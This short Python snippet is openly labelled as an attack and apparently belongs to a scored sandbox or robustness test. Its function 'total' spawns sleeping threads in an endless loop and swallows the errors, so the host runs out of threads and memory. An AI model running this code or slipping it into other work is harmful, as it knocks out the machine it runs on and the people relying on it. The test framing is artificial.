# attack: starts threads until there are no more
# points: double=2 total=0
# %% total
import threading, time
def total(x):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        except (RuntimeError, MemoryError):
            pass
